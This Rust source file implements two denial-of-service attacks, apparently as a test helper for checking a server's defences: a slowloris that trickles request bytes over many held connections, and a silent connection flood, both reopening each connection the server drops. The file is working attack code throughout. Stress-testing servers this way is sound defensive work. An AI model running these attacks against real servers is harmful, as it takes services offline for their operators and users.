//! A slowloris: many connections, each sending its first bytes one at a
//! time and never finishing, opened again as soon as the server drops one.
//! Or a silent flood: connections that send nothing, opened again as soon
//! as the server closes one.

use std::io::Write;
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::os::fd::FromRawFd;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

pub struct Slowloris {
    stop: Arc<AtomicBool>,
    /// Connections the attack opened (again after each one dropped).
    pub opened: Arc<AtomicUsize>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Drop for Slowloris {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// A TCP connection to `target` from `source` (another loopback address
/// than the test's own clients, so that the server tells them apart).
fn connect_from(source: Ipv4Addr, target: SocketAddr) -> std::io::Result<TcpStream> {
    let sockaddr = |ip: Ipv4Addr, port: u16| libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: port.to_be(),
        sin_addr: libc::in_addr {
            s_addr: u32::from(ip).to_be(),
        },
        sin_zero: [0; 8],
    };
    let SocketAddr::V4(target) = target else {
        panic!("IPv4 only")
    };
    let size = std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t;
    // SAFETY: plain socket calls on a descriptor this function owns; on
    // success it is handed to TcpStream, which closes it.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0);
        if fd < 0 {
            return Err(std::io::Error::last_os_error());
        }
        let stream = TcpStream::from_raw_fd(fd);
        let local = sockaddr(source, 0);
        if libc::bind(fd, (&local as *const libc::sockaddr_in).cast(), size) != 0 {
            return Err(std::io::Error::last_os_error());
        }
        let remote = sockaddr(*target.ip(), target.port());
        if libc::connect(fd, (&remote as *const libc::sockaddr_in).cast(), size) != 0 {
            return Err(std::io::Error::last_os_error());
        }
        Ok(stream)
    }
}

/// `connections` connections from `source` to `target`, each sending the
/// next byte of `head` (then `a`s, never ending it) every second.
pub fn start(source: Ipv4Addr, target: SocketAddr, connections: usize, head: Vec<u8>) -> Slowloris {
    let stop = Arc::new(AtomicBool::new(false));
    let opened = Arc::new(AtomicUsize::new(0));
    let thread = {
        let (stop, opened) = (stop.clone(), opened.clone());
        std::thread::spawn(move || {
            let mut held: Vec<Option<(TcpStream, usize)>> = (0..connections).map(|_| None).collect();
            while !stop.load(Ordering::SeqCst) {
                for slot in held.iter_mut() {
                    if slot.is_none()
                        && let Ok(stream) = connect_from(source, target)
                    {
                        opened.fetch_add(1, Ordering::SeqCst);
                        let _ = stream.set_write_timeout(Some(Duration::from_millis(100)));
                        *slot = Some((stream, 0));
                    }
                    if let Some((stream, sent)) = slot {
                        let byte = head.get(*sent).copied().unwrap_or(b'a');
                        match stream.write(&[byte]) {
                            Ok(1) => *sent += 1,
                            _ => *slot = None,
                        }
                    }
                }
                // A second between bytes, checking for the stop meanwhile.
                for _ in 0..10 {
                    if stop.load(Ordering::SeqCst) {
                        break;
                    }
                    std::thread::sleep(Duration::from_millis(100));
                }
            }
        })
    };
    Slowloris {
        stop,
        opened,
        thread: Some(thread),
    }
}

/// `connections` connections from `source` to `target` that send nothing,
/// each opened again as soon as the server closes it.
pub fn silent(source: Ipv4Addr, target: SocketAddr, connections: usize) -> Slowloris {
    let stop = Arc::new(AtomicBool::new(false));
    let opened = Arc::new(AtomicUsize::new(0));
    let thread = {
        let (stop, opened) = (stop.clone(), opened.clone());
        std::thread::spawn(move || {
            let mut held: Vec<Option<TcpStream>> = (0..connections).map(|_| None).collect();
            while !stop.load(Ordering::SeqCst) {
                for slot in held.iter_mut() {
                    if slot.is_none()
                        && let Ok(stream) = connect_from(source, target)
                        && stream.set_nonblocking(true).is_ok()
                    {
                        opened.fetch_add(1, Ordering::SeqCst);
                        *slot = Some(stream);
                    }
                    // Closed by the server: read as the end, or an error.
                    if let Some(stream) = slot
                        && !matches!(stream.peek(&mut [0u8; 1]), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock)
                    {
                        *slot = None;
                    }
                }
                std::thread::sleep(Duration::from_millis(10));
            }
        })
    };
    Slowloris {
        stop,
        opened,
        thread: Some(thread),
    }
}
